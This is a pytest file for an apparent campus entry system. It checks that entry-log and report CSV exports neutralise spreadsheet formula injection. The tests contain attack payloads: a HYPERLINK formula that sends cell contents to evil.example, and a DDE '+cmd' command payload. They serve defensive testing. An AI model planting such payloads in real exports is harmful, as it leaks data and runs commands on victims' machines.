"""CSV formula injection: the entry-log and report exports, fetched over HTTP, carry no live formula."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from central.app import create_app
from central.audit.spreadsheet import FORMULA_STARTS, safe_cell
from central.models.db import session_scope
from central.models.registry import Campus
from central.office import reports
from central.settings import CentralSettings
from gatecore.messages import Override
from gatecore.reasons import Verdict
from tests.api_auth import bearer
from tests.central.conftest import NOW, World, event_id

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_starting_like_a_formula_is_quoted(start: str) -> None:
    assert safe_cell(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("value", ["张三", "36.6", "", "a=b", -3, 2.5, None])
def test_other_values_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


def _cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _client(world: World, tmp_path: Path) -> TestClient:
    app = create_app(CentralSettings(database_url="sqlite://", data_dir=tmp_path), world.engine)
    return TestClient(app, headers=bearer(app, world.engine, "auditor"))


def test_entry_log_csv_neutralises_a_guards_formula(world: World, tmp_path: Path) -> None:
    for reason in (ATTACK, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1"):
        override = Override(of_event=event_id(), guard="guard-07", verdict=Verdict.ALLOW, reason=reason)
        world.service.handle(*world.scan("zhang", override=override), NOW)
    body = _client(world, tmp_path).get("/api/v1/entries.csv").content
    rows = _cells(body)
    column = rows[0].index("override_reason")
    reasons = sorted(r[column] for r in rows[1:])
    assert reasons == sorted("'" + r for r in (ATTACK, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "=1")), (
        reasons
    )
    assert not [c for r in rows for c in r if c.startswith(FORMULA_STARTS)]


def test_report_csv_neutralises_a_formula_in_the_campus_name(world: World, tmp_path: Path) -> None:
    with session_scope(world.engine) as s:
        campus = s.get(Campus, world.campus_id)
        assert campus is not None
        campus.name_zh = ATTACK
        s.add(campus)
    with session_scope(world.engine) as s:
        report = reports.make_report(s, world.campus_id, date(2026, 11, 23), reports.OFFICE, NOW)
    rows = _cells(_client(world, tmp_path).get(f"/api/v1/reports/{report.id}.csv").content)
    assert rows[1][1].startswith("'" + ATTACK)
    assert not [c for r in rows for c in r if c.startswith(FORMULA_STARTS)]
